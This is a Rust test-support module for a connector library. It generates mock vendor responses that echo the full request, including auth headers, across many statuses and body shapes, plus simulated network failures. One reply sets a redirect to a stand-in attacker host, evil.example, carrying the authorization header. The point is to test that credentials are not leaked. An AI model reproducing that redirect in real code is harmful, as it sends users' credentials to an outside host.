//! What a vendor may do to a request, all of it with the whole request echoed.

use std::time::Duration;

use acople::{Progress, WireFault};
use acople_testkit::{Reply, Sent};
use serde_json::json;

/// The statuses that mean something.
const STATUSES: [u16; 14] = [200, 302, 400, 401, 403, 404, 409, 410, 413, 422, 429, 500, 502, 503];

/// The shapes of a body with a text in it.
const SHAPES: usize = 6;

/// Failures without an answer, and hanging.
const FAILURES: usize = 8;

/// How many answers there are.
pub const COUNT: usize = STATUSES.len() * SHAPES + FAILURES;

/// The answer of this number to a request.
pub fn answer(number: usize, sent: &Sent) -> Reply {
    let Some(status) = STATUSES.get(number / SHAPES) else {
        return failure(number - STATUSES.len() * SHAPES);
    };
    let said = echo(sent);
    let body = match number % SHAPES {
        0 => json!({ "error": said, "error_description": said, "message": said, "category": said, "correlationId": said }).to_string(),
        1 => json!([{ "errorCode": said, "message": said, "fields": [said] }]).to_string(),
        2 => json!({ "error": { "code": said, "message": { "lang": "en", "value": said }, "innererror": said } }).to_string(),
        3 => json!({ "status": "error", "message": said, "errors": [{ "message": said, "code": said, "in": said }],
            "results": [{ "id": said, "success": false, "errors": [{ "statusCode": said, "message": said }] }] })
        .to_string(),
        4 => format!("<html><title>{said}</title></html>"),
        _ => format!(r#"{{"value":[{{"id":"{said}""#),
    };
    let kind = if number % SHAPES == 4 { "text/html" } else { "application/json" };
    Reply::new(*status, body)
        .header("content-type", kind)
        .header(
            "location",
            &format!("https://evil.example/?{}", sent.header("authorization").unwrap_or_default()),
        )
        .header("x-request-id", sent.header("authorization").unwrap_or_default())
        .header("sforce-limit-info", &said)
}

fn failure(number: usize) -> Reply {
    match number {
        0 => Reply::fail(Progress::NotSent, WireFault::Dns),
        1 => Reply::fail(Progress::NotSent, WireFault::Connect),
        2 => Reply::fail(Progress::NotSent, WireFault::Tls),
        3 => Reply::fail(Progress::MaybeSent, WireFault::Reset),
        4 => Reply::fail(Progress::MaybeSent, WireFault::Malformed),
        5 => Reply::fail(Progress::MaybeSent, WireFault::Timeout),
        6 => Reply::json(200, r#"{"results":[{"id":"1"}]}"#).truncated(),
        _ => Reply::hang(),
    }
}

/// The whole request in the vendor's words.
fn echo(sent: &Sent) -> String {
    let headers = sent.request.headers().iter();
    let headers: Vec<String> = headers
        .map(|(name, value)| format!("{name}: {}", String::from_utf8_lossy(value.as_bytes())))
        .collect();
    format!(
        "{} {} {} {}",
        sent.request.method(),
        sent.request.clone().into_parts().1,
        headers.join(" "),
        sent.body()
    )
}

/// An answer with which a connector comes further: to the request after its first.
pub fn helpful(sent: &Sent) -> Option<Reply> {
    let path = sent.request.url().path();
    path.ends_with("/$metadata").then(|| {
        let xml = r#"<Edmx Version="4.0"><DataServices><Schema Namespace="S"><EntityType Name="Item"><Key><PropertyRef Name="Id"/></Key>
            <Property Name="Id" Type="Edm.String" Nullable="false"/></EntityType>
            <EntityContainer Name="C"><EntitySet Name="Items" EntityType="S.Item"/></EntityContainer></Schema></DataServices></Edmx>"#;
        Reply::new(200, xml).header("content-type", "application/xml").after(Duration::from_millis(1))
    })
}
